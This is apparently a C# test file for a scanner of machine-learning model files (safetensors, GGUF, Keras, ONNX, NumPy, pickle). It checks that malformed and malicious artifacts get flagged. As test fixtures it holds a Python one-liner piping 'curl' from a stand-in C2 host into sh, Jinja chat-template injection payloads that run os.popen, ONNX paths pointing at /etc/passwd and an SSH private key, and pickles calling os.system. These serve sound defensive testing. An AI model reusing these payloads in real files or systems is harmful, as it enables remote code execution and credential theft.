using System.Text;
using AiCtiPortal.Engine.Artifacts;
using AiCtiPortal.Engine.Tests.Artifacts.Builders;
using static AiCtiPortal.Engine.Artifacts.FindingCodes;

namespace AiCtiPortal.Engine.Tests.Artifacts;

public sealed class FormatAnalysisTests
{
    private const string TestVectorHeader = """{"test":{"dtype":"I32","shape":[2,2],"data_offsets":[0,16]}}""";

    [Fact]
    public void Safetensors_reference_test_vector_is_valid()
    {
        byte[] file = SafetensorsBuilder.Raw(TestVectorHeader, new byte[16]);

        Assert.Equal(60 + 8 + 16, file.Length);
        var report = Scans.Run(file, "model.pkl");
        Assert.Equal(ArtifactFormat.Safetensors, report.Format);
        Scans.Clean(report);
    }

    [Fact]
    public void Benign_safetensors_with_metadata_has_no_findings()
    {
        Scans.Clean(Scans.Run(SafetensorsBuilder.Tensors("""{"format":"pt"}""", 6, 4, 10)));
    }

    [Theory]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"a":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}""", 16, SafetensorsHeaderDuplicateKey)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[12,20]}}""", 20, SafetensorsHeaderHoleOrOverlap)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}""", 12, SafetensorsHeaderHoleOrOverlap)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[8,0]}}""", 8, SafetensorsHeaderInvalidOffsets)]
    [InlineData("""{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]}}""", 8, SafetensorsHeaderSizeMismatch)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 12, SafetensorsHeaderBufferEnd)]
    [InlineData("""{"a":{"dtype":"Q9","shape":[2],"data_offsets":[0,8]}}""", 8, SafetensorsHeaderBadEntry)]
    [InlineData("""{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},""", 8, SafetensorsHeaderInvalidJson)]
    [InlineData("""{"__metadata__":{"n":1},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}""", 8, SafetensorsHeaderBadEntry)]
    public void Safetensors_rejections_of_the_reference_reader_are_findings(string header, int buffer, string code)
    {
        var report = Scans.Run(SafetensorsBuilder.Raw(header, new byte[buffer]));

        Assert.Equal(ArtifactFormat.Safetensors, report.Format);
        Scans.Has(report, code, Severity.Medium);
    }

    [Fact]
    public void Safetensors_header_size_limits_and_bad_UTF8_are_findings()
    {
        byte[] huge = SafetensorsBuilder.Raw(TestVectorHeader, new byte[16]);
        BitConverter.GetBytes(200_000_000UL).CopyTo(huge, 0);
        byte[] pastEnd = SafetensorsBuilder.Raw(TestVectorHeader, new byte[16]);
        BitConverter.GetBytes(5_000UL).CopyTo(pastEnd, 0);
        byte[] badUtf8 = SafetensorsBuilder.Raw("{\"t\xff\":{}}", []);
        badUtf8[11] = 0xff;

        Scans.Has(Scans.Run(huge), SafetensorsHeaderTooLarge);
        Scans.Has(Scans.Run(pastEnd), SafetensorsHeaderPastEof);
        Scans.Has(Scans.Run(badUtf8), SafetensorsHeaderInvalidUtf8);
    }

    [Fact]
    public void Safetensors_metadata_with_code_and_URLs_is_reported()
    {
        var report = Scans.Run(SafetensorsBuilder.Tensors("""{"format":"pt","note":"__import__('os').system('curl https://c2.example.net/p | sh')"}""", 2));

        Scans.Has(report, SafetensorsHeaderSuspiciousMetadata, Severity.Low);
        Assert.Contains(new ExtractedIndicator("Domain", "c2.example.net"), report.Indicators);
    }

    [Fact]
    public void Benign_gguf_with_a_real_chat_template_has_no_findings()
    {
        const string template = "{%- set ns = namespace(found=false) -%}{% for message in messages %}{{ '<|' + message['role'] + '|>\\n' + message['content'] | trim + '<|end|>' }}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}";
        var gguf = new GgufBuilder()
            .String("general.architecture", "llama").String("general.name", "tiny").UInt32("general.alignment", 32).Float32("llama.rope.freq_base", 10000f)
            .StringArray("tokenizer.ggml.tokens", "<s>", "</s>", "hello").NestedIntArray("test.nested", [1, 2], [3])
            .String("tokenizer.chat_template", template)
            .Tensor("token_embd.weight", [4, 3]).Tensor("output.weight", [3, 2])
            .ToArray();

        var report = Scans.Run(gguf);

        Assert.Equal(ArtifactFormat.Gguf, report.Format);
        Scans.Clean(report);
    }

    [Theory]
    [InlineData("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}")]
    [InlineData("{{ cycler.__init__.__globals__.os.popen('id').read() }}")]
    [InlineData("{{ ''.__class__.__mro__[1].__subclasses__() }}")]
    [InlineData("{{ lipsum|attr('__glo' ~ 'bals__') }}")]
    [InlineData("{{ joiner|attr('_'*2 + 'init' + '_'*2) }}")]
    [InlineData("{{ namespace.__init__.__globals__ }}")]
    [InlineData("{{ x|attr('\\x5f\\x5fclass\\x5f\\x5f') }}")]
    public void Chat_template_injection_is_reported_with_an_indicator(string template)
    {
        var gguf = new GgufBuilder(version: 2).String("general.architecture", "llama").String("tokenizer.chat_template", template).ToArray();

        var report = Scans.Run(gguf);

        var finding = Scans.Single(report, GgufTemplateInjection);
        Assert.True(finding.Severity >= Severity.High);
        Assert.Equal("ChatTemplatePattern", finding.Indicator!.Type);
        Assert.Equal(ScanVerdict.Malicious, report.Verdict);
    }

    [Fact]
    public void Gguf_counts_and_lengths_beyond_the_file_are_findings_not_allocations()
    {
        byte[] header = [.. "GGUF"u8.ToArray(), 3, 0, 0, 0, .. BitConverter.GetBytes(0UL), .. BitConverter.GetBytes(ulong.MaxValue / 2)];
        var hugeString = new GgufBuilder().RawValue("k", 8, BitConverter.GetBytes(1UL << 60)).ToArray();
        var hugeArray = new GgufBuilder().RawValue("k", 9, [.. BitConverter.GetBytes(6u), .. BitConverter.GetBytes(1UL << 40)]).ToArray();
        var badType = new GgufBuilder().RawValue("k", 77, [0, 0, 0, 0]).ToArray();

        Scans.Has(Scans.Run(header), GgufClaimExceedsFile);
        Scans.Has(Scans.Run(hugeString), GgufClaimExceedsFile);
        Scans.Has(Scans.Run(hugeArray), GgufClaimExceedsFile);
        Scans.Has(Scans.Run(badType), GgufBadType);
    }

    [Fact]
    public void Gguf_tensor_data_beyond_the_file_is_reported()
    {
        var gguf = new GgufBuilder().String("general.name", "x").Tensor("w", [2, 2]).Tensor("huge", [1UL << 40, 4], bytes: 0).ToArray();

        var report = Scans.Run(gguf);

        Assert.Contains("'huge'", Scans.Single(report, GgufTensorInfo).Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Gguf_version_1_and_duplicate_keys_are_read()
    {
        var v1 = new GgufBuilder(version: 1).String("general.name", "x").String("general.name", "y").Tensor("w", [2, 2]).ToArray();

        var report = Scans.Run(v1);

        Assert.Equal(ArtifactFormat.Gguf, report.Format);
        Assert.Equal(FindingCodes.GgufDuplicateKey, Assert.Single(report.Findings).Code);
    }

    [Fact]
    public void Benign_keras_model_has_no_findings()
    {
        var report = Scans.Run(KerasBuilder.Build(KerasBuilder.Model(KerasBuilder.DenseLayer)), "model.keras");

        Assert.Equal(ArtifactFormat.KerasV3, report.Format);
        Scans.Clean(report);
    }

    [Fact]
    public void Keras_lambda_layer_bytecode_is_reported()
    {
        // Bytes shaped like marshalled code: names are stored as short strings behind a type and length byte.
        byte[] marshal = [0xe3, 0, 0, 0, 0xda, 2, .. "os"u8.ToArray(), 0xda, 6, .. "system"u8.ToArray(), 0xda, 6, .. "lambda"u8.ToArray()];
        string lambda = """{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {"code": "CODE", "defaults": null, "closure": null}}}, "registered_name": null}"""
            .Replace("CODE", Convert.ToBase64String(marshal), StringComparison.Ordinal);

        var report = Scans.Run(KerasBuilder.Build(KerasBuilder.Model(KerasBuilder.DenseLayer, lambda)));

        var finding = Scans.Single(report, KerasLambda);
        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Contains("Lambda 'evil'", finding.Evidence, StringComparison.Ordinal);
        Assert.Equal("config.json", finding.Location.Member);
    }

    [Fact]
    public void Keras_module_references_outside_the_allow_list_are_reported()
    {
        string osFunction = """{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}, "registered_name": null}""";
        string custom = """{"module": "my_layers", "class_name": "Fancy", "config": {"name": "f"}, "registered_name": "my_layers>Fancy"}""";

        var report = Scans.Run(KerasBuilder.Build(KerasBuilder.Model(osFunction, custom)));

        Assert.Contains(report.Findings, f => f.Code == KerasModuleReference && f.Severity == Severity.Critical && f.Indicator!.Value == "os.system");
        Assert.Equal(2, report.Findings.Count(f => f.Code == KerasModuleReference && f.Severity == Severity.Medium));
    }

    [Fact]
    public void Benign_onnx_model_has_no_findings()
    {
        var onnx = OnnxBuilder.Model([OnnxBuilder.Node("Relu", "", "x"), OnnxBuilder.Node("LinearRegressor", "ai.onnx.ml", "y")], [OnnxBuilder.ExternalTensor("w", "weights/w.bin")]);

        var report = Scans.Run(onnx, "model.bin");

        Assert.Equal(ArtifactFormat.Onnx, report.Format);
        Scans.Clean(report);
    }

    [Fact]
    public void Onnx_custom_domains_and_escaping_external_data_are_reported()
    {
        var onnx = OnnxBuilder.Model(
            [OnnxBuilder.Node("Relu"), OnnxBuilder.Node("EvilOp", "com.attacker"), OnnxBuilder.Node("EvilOp2", "com.attacker")],
            [OnnxBuilder.ExternalTensor("w", "../../../../etc/passwd"), OnnxBuilder.ExternalTensor("v", "/root/.ssh/id_rsa")],
            ["", "com.attacker"]);

        var report = Scans.Run(onnx);

        Assert.Contains("EvilOp, EvilOp2", Scans.Single(report, OnnxCustomDomain).Evidence, StringComparison.Ordinal);
        Assert.Equal(2, report.Findings.Count(f => f.Code == OnnxExternalDataPath && f.Severity == Severity.High));
    }

    [Fact]
    public void Numpy_object_arrays_carry_pickles_that_are_analysed()
    {
        var npy = NpyBuilder.Build("|O", "(1,)", PickleBuilder.CallWithString("os", "system", "id", protocol: 3));

        var report = Scans.Run(npy, "array.npy");

        Assert.Equal(ArtifactFormat.NumPy, report.Format);
        Scans.Has(report, NumPyObjectArray, Severity.Low);
        Scans.Has(report, PickleDeniedGlobal, Severity.Critical);
    }

    [Fact]
    public void Numeric_numpy_array_has_no_findings_and_a_short_one_is_reported()
    {
        Scans.Clean(Scans.Run(NpyBuilder.Build("<f8", "(3, 2)", new byte[48])));
        Scans.Has(Scans.Run(NpyBuilder.Build("<f8", "(3, 2)", new byte[40])), NumPyMalformed);
    }

    [Fact]
    public void Joblib_style_pickle_with_appended_array_data_is_recognised()
    {
        var pickle = new PickleBuilder().Proto(4)
            .Global("joblib.numpy_pickle", "NumpyArrayWrapper").EmptyTuple().NewObj().EmptyDict().Build().Stop().ToArray();

        var report = Scans.Run([.. pickle, .. new byte[256]], "model.joblib");

        Assert.Equal(ArtifactFormat.Joblib, report.Format);
        Scans.Lacks(report, PickleTrailingData);
        Assert.Contains(report.Notes, n => n.Contains("joblib", StringComparison.Ordinal));
    }

    [Fact]
    public void Legacy_torch_tar_members_are_analysed()
    {
        var tar = TarBuilder.Build(
            ("sys_info", new PickleBuilder().Proto(2).EmptyDict().Stop().ToArray()),
            ("pickle", PickleBuilder.CallWithString("os", "system", "id")),
            ("storages", new PickleBuilder().Proto(2).Int(0).Stop().ToArray()),
            ("tensors", new PickleBuilder().Proto(2).Int(0).Stop().ToArray()));

        var report = Scans.Run(tar);

        Assert.Equal(ArtifactFormat.PyTorchTar, report.Format);
        Assert.Equal("pickle", Scans.Single(report, PickleDeniedGlobal).Location.Member);
    }

    [Fact]
    public void Unknown_content_is_unsupported_whatever_its_name()
    {
        var report = Scans.Run(Encoding.UTF8.GetBytes("just some text, nothing to see"), "model.safetensors");

        Assert.Equal(ArtifactFormat.Unknown, report.Format);
        Assert.Equal(ScanVerdict.Unsupported, report.Verdict);
        Assert.Equal(Severity.Info, Scans.Single(report, FormatUnsupported).Severity);
    }

    [Fact]
    public void Detector_works_by_content_alone()
    {
        Assert.Equal(ArtifactFormat.Safetensors, FormatDetector.Detect(new MemoryStream(SafetensorsBuilder.Tensors(null, 1))));
        Assert.Equal(ArtifactFormat.Gguf, FormatDetector.Detect(new MemoryStream(new GgufBuilder().ToArray())));
        Assert.Equal(ArtifactFormat.PyTorchZip, FormatDetector.Detect(new MemoryStream(ZipBuilder.TorchZip(PickleBuilder.TorchStateDict()))));
        Assert.Equal(ArtifactFormat.Pickle, FormatDetector.Detect(new MemoryStream("(dp0\nS'a'\np1\nI1\ns."u8.ToArray())));
        Assert.Equal(ArtifactFormat.Hdf5, FormatDetector.Detect(new MemoryStream([0x89, (byte)'H', (byte)'D', (byte)'F', 0x0d, 0x0a, 0x1a, 0x0a, 0])));
        Assert.Equal(ArtifactFormat.Unknown, FormatDetector.Detect(new MemoryStream("{\"tokenizer\": true}"u8.ToArray())));
    }
}
